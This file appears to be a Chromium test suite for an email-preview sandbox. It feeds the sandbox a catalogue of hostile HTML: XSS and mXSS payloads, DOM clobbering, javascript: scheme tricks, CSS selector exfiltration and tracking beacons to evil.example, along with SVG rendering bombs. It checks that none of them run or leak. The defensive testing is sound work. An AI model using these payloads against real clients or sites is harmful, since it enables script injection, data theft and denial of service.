import assert from 'node:assert/strict';
import { after, afterEach, before, describe, it } from 'mocha';
import { contentPolicy, sandboxDocument } from '../../src/inspect/sandbox.ts';
import { PreviewPage } from '../support/preview-page.ts';

/** Each tells that it ran by way of the page around it, the top, and a request. */
const act = "try{parent.pwned=1}catch(e){}try{top.pwned=1}catch(e){}window.pwned=1;fetch('https://evil.example/ran')";
const inAttribute = act.replaceAll('"', '&quot;');

/** Elements each of which is drawn ten times by the next, and the last of them once more. */
const levels = Array.from({ length: 16 }, (_, level) => `level${level}`);
const multiplied = (name: string, draw: (id: string) => string): string =>
  levels.map((id, level) => `<${name} id="${id}">${draw(levels[level - 1] ?? 'none').repeat(10)}</${name}>`).join('') +
  draw('level15');

/** Ways to run a script, to reach the network, and to get out of the frame. */
const hostile: Readonly<Record<string, string>> = {
  script: `<script>${act}</script>`,
  'script in head': `<html><head><script src="https://evil.example/x.js"></script></head>`,
  'module script': `<script type="module">${act}</script>`,
  'image onerror': `<img src="data:," onerror="${inAttribute}"><img src=x onerror='${act.replaceAll("'", '&#39;')}'>`,
  'svg onload': `<svg onload="${inAttribute}"></svg><svg><script>${act}</script></svg>`,
  'svg animate to javascript': `<svg><a><animate attributeName="href" values="javascript:${inAttribute}"/><text x="20" y="20">x</text></a></svg>`,
  'svg use': `<svg><use href="https://evil.example/x.svg#a"/><image href="https://evil.example/svg.png"/></svg>`,
  'svg foreignObject': `<svg><foreignObject><iframe srcdoc="<script>${inAttribute}</script>"></iframe></foreignObject></svg>`,
  'body onload': `<body onload="${inAttribute}" onpageshow="${inAttribute}" background="https://evil.example/body.png">`,
  'event on everything': `<p onfocus="${inAttribute}" autofocus tabindex=1>x</p><input autofocus onfocus="${inAttribute}"><details open ontoggle="${inAttribute}">x</details><marquee onstart="${inAttribute}">x</marquee><video onerror="${inAttribute}"><source></video>`,
  'iframe srcdoc': `<iframe srcdoc="<script>${inAttribute}</script>"></iframe>`,
  'iframe src': `<iframe src="https://evil.example/frame"></iframe><iframe src="javascript:${inAttribute}"></iframe><embed src="https://evil.example/e"><object data="https://evil.example/o"></object><frameset><frame src="https://evil.example/f"></frameset>`,
  'closing the frame': `</iframe><script>${act}</script><img src=x onerror="${inAttribute}"></iframe>"'></textarea></style></title></template>`,
  'closing style': `<style>a{content:"\\3c/style>\\3cimg src=x onerror=parent.pwned=1>"}</style><style></style><img src=x onerror="${inAttribute}">`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><meta http-equiv="refresh" content="0;url=javascript:${inAttribute}">`,
  'meta policy': `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`,
  base: `<base href="https://evil.example/"><img src="picture.png"><link rel="stylesheet" href="x.css">`,
  'css import': `<style>@import "https://evil.example/a.css";@import url(//evil.example/b.css);@\\69mport 'https://evil.example/c.css';</style>`,
  'css urls': `<style>body{background:url(https://evil.example/a.png)}p{background-image:image-set("https://evil.example/b.png" 1x);list-style:\\75rl(https://evil.example/c.png);cursor:url(https://evil.example/d.cur),auto}@font-face{font-family:x;src:url(https://evil.example/f.woff)}p{font-family:x;--u:url(https://evil.example/v.png);border-image:var(--u)}</style><p style="background:url(&quot;https://evil.example/e.png&quot;)">x</p>`,
  'css in svg': `<svg><style>*{background:url(https://evil.example/s.png)}</style><rect fill="url(https://evil.example/f.svg#x)" style="filter:url(https://evil.example/g.svg#x)"/></svg>`,
  'css attack on selectors': `<input value="secret"><style>input[value^=s]{background:url(https://evil.example/s)}</style>`,
  'remote pictures': `<img src="https://evil.example/a.png"><img srcset="https://evil.example/b.png 1x, //evil.example/c.png 2x"><picture><source srcset="https://evil.example/d.webp"><img></picture><table background="//evil.example/e.png"><tr><td>x</table><video poster="https://evil.example/p.png" src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio><input type=image src="https://evil.example/i.png">`,
  'links that fetch': `<link rel="stylesheet" href="https://evil.example/s.css"><link rel="preload" as="image" href="https://evil.example/p.png"><link rel="prefetch" href="https://evil.example/pf"><link rel="dns-prefetch" href="//evil.example"><link rel="icon" href="https://evil.example/i.ico"><link rel="import" href="https://evil.example/h">`,
  forms: `<form id=f action="https://evil.example/form" method=post><input name=x value=y><button id=b formaction="https://evil.example/b">go</button><input type=image src=x></form><isindex action="https://evil.example/i">`,
  'mxss math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${inAttribute}&gt;">`,
  'mxss math style': `<math><mi><style><img src=x onerror="${inAttribute}"></style></mi></math><math><annotation-xml encoding="text/html"><script>${act}</script></annotation-xml></math>`,
  'mxss svg style': `<svg></p><style><a id="</style><img src=1 onerror=${inAttribute}>">`,
  'mxss noscript': `<noscript><p title="</noscript><img src=x onerror=${inAttribute}>"></noscript>`,
  'mxss form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${inAttribute}">`,
  'mxss template': `<template><script>${act}</script></template><table><template><tr><script>${act}</script></template></table>`,
  'mxss comment': `<!--><img src=x onerror="${inAttribute}">--><!-- --!><img src=x onerror="${inAttribute}">`,
  'mxss select': `<select><iframe></select><script>${act}</script><select><template><style><!--</style><a rel="--></style></template></select><img id=x onerror=${inAttribute}>">`,
  'raw text': `<xmp><img src=x onerror="${inAttribute}"></xmp><noembed><img src=x onerror="${inAttribute}"></noembed><plaintext><script>${act}</script>`,
  clobbering: `<img name=body><img name=documentElement><form name=querySelector></form><a id=parent name=parent>x</a><img id=location name=location><object name=scrollTo></object><iframe name=top></iframe>`,
  'scheme tricks': `<a id=link href="java&#10;script:${inAttribute}">x</a><a href="&#1;javascript:${inAttribute}">x</a><a href="data:text/html,<script>${inAttribute}</script>">y</a><area href="vbscript:x">`,
  'nonce guessing': `<script nonce="cGFnZS1ub25jZQ">${act}</script><script nonce="">${act}</script>`,
};

/** Some kilobytes that a window would never come back from drawing: no policy keeps it from that. */
const exhausting: Readonly<Record<string, string>> = {
  'svg that is drawn a billion times': `<svg>${multiplied('g', (id) => `<use href="#${id}"/>`)}</svg>`,
  'patterns of patterns': `<svg>${multiplied('pattern', (id) => `<rect width="9" height="9" fill="url(#${id})"/>`)}</svg>`,
  'masks of masks': `<svg>${multiplied('mask', (id) => `<rect width="9" height="9" style="mask:url(#${id})"/>`)}</svg>`,
  'masks by a style sheet': `<style>${levels.map((id) => `.${id}{mask:url(#${id})}`).join('')}</style><svg>${multiplied('mask', (id) => `<rect width="9" height="9" class="${id}"/>`)}</svg>`,
  'patterns that are handed down': `<svg>${multiplied('pattern', (id) => `<g fill="url(#${id})"><rect width="9" height="9"/><rect width="5" height="5"/></g>`)}</svg>`,
  'a picture that is drawn a billion times': `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${multiplied('g', (id) => (id === 'none' ? '<rect width="1" height="1"/>' : `<use href="#${id}"/>`))}</svg>`).toString('base64')}">`,
  'masks by variables': `<style>${levels.map((id) => `.${id}{mask:var(--${id})}`).join('')}</style><svg style="${levels.map((id) => `--${id}:url(#${id})`).join(';')}">${multiplied('mask', (id) => `<rect width="9" height="9" class="${id}"/>`)}</svg>`,
};

describe('preview sandbox, in Chromium', function () {
  this.timeout(60_000);
  let preview: PreviewPage;
  before(async () => {
    preview = await PreviewPage.open();
  });
  after(() => preview?.close());
  // Each sees to it that the page is as it was: only one that fails, or goes elsewhere, leaves it otherwise.
  afterEach(async function () {
    const elsewhere = preview.page.url() !== `${preview.origin}/`;
    if (elsewhere || this.currentTest?.state === 'failed') await preview.reset();
  });

  for (const [name, html] of Object.entries({ ...hostile, ...exhausting })) {
    it(`holds: ${name}`, async () => {
      preview.leaks.length = 0;
      preview.said.length = 0;
      await preview.showHtml(`${html}<p id="mailbench-end">end</p>`);
      await press(preview);
      await settle(preview);
      assert.deepEqual(preview.leaks, []);
      assert.deepEqual(
        preview.said.filter(
          (line) =>
            !/Blocked script execution|sandboxed|Content Security Policy|Failed to decode downloaded font: data:,/.test(
              line,
            ),
        ),
        [],
      );
      assert.equal(await preview.page.evaluate(() => 'pwned' in window), false);
      assert.equal(await preview.page.url(), `${preview.origin}/`);
      // The page around it is as it was.
      assert.equal(await preview.page.locator('[role=tab]').count(), 5);
      assert.equal(await preview.page.locator('.field iframe').count(), 1);
    });
  }

  it('holds by policy and frame alone, where nothing is taken out', async () => {
    for (const html of Object.values(hostile)) {
      const policy = contentPolicy({ remote: false });
      const raw = `<!DOCTYPE html><meta http-equiv="Content-Security-Policy" content="${policy.replaceAll('"', '&quot;')}">${html}`;
      preview.leaks.length = 0;
      await preview.page.evaluate((source) => {
        const frame = document.createElement('iframe');
        frame.sandbox.add('allow-same-origin');
        frame.id = 'raw';
        frame.srcdoc = source;
        document.body.append(frame);
      }, raw);
      await settle(preview);
      await preview.page.evaluate(() => document.getElementById('raw')?.remove());
      assert.deepEqual(preview.leaks, [], html);
      assert.equal(await preview.page.evaluate(() => 'pwned' in window), false, html);
      assert.equal(preview.page.url(), `${preview.origin}/`);
    }
  });

  it('tells what it blocked and took out', () => {
    const { remote, removed } = sandboxDocument(hostile['remote pictures'] ?? '', {
      scheme: 'light',
      images: true,
      remote: false,
      resource: () => undefined,
    });
    const base = 'https://evil.example/';
    const expected = ['a.png', 'b.png', 'c.png', 'd.webp', 'e.png', 'p.png', 'v.mp4', 'a.mp3', 'i.png'];
    assert.deepEqual(remote.map(({ url }) => url).sort(), expected.map((name) => base + name).sort());
    assert.deepEqual(removed, {});
  });

  it('shows a link and does not follow it', async () => {
    await preview.showHtml('<a href="https://shop.example/?a=1&amp;b=2">Shop</a>');
    await preview.mail().locator('a').hover();
    await preview.page.waitForFunction(() => document.querySelector('.link-line')?.textContent !== '');
    assert.equal(await preview.page.locator('.link-line').textContent(), 'https://shop.example/?a=1&b=2');
    preview.leaks.length = 0;
    const before = await preview.posted('link');
    await preview.mail().locator('a').click();
    assert.deepEqual(await preview.posted('link'), [...before, { type: 'link', index: 0 }]);
    assert.deepEqual(preview.leaks, []);
  });

  it('holds by cleaning alone, without policy and frame', async () => {
    const { page } = preview;
    await page.goto('about:blank');
    for (const html of Object.values(hostile)) {
      const options = { scheme: 'light', images: true, remote: false, resource: () => undefined } as const;
      const { document: clean } = sandboxDocument(html, options);
      preview.leaks.length = 0;
      await page.setContent('<p>page</p>');
      await page.evaluate(
        (source) => {
          const frame = document.createElement('iframe');
          frame.srcdoc = source;
          document.body.append(frame);
        },
        clean.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''),
      );
      await settle(preview);
      for (const target of await page.frameLocator('iframe').locator('button, input, summary, svg').all()) {
        await target.dispatchEvent('click').catch(() => {});
      }
      assert.deepEqual(preview.leaks, [], html);
      assert.equal(await page.evaluate(() => 'pwned' in window), false, html);
    }
  });

  it('would notice a script that runs', async () => {
    // The test itself is tested: the same document in a frame without a sandbox and a policy does reach the page.
    const { page } = preview;
    await page.goto('about:blank');
    await page.setContent(
      `<iframe srcdoc="<script>parent.pwned = 1</script><img src='https://evil.example/x'>"></iframe>`,
    );
    await page.waitForFunction(() => 'pwned' in window);
    await settle(preview);
    assert.deepEqual(preview.leaks, ['https://evil.example/x']);
  });
});

/** Clicks what can be clicked, as a reader might. */
async function press(preview: PreviewPage): Promise<void> {
  for (const target of await preview.mail().locator('a, button, input, summary').all()) {
    await target.dispatchEvent('click').catch(() => {});
  }
}

/** Long enough for a frame to have asked for something: two frames drawn, and what they set off. */
async function settle(preview: PreviewPage): Promise<void> {
  await preview.page.evaluate(
    () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(resolve, 30)))),
  );
}
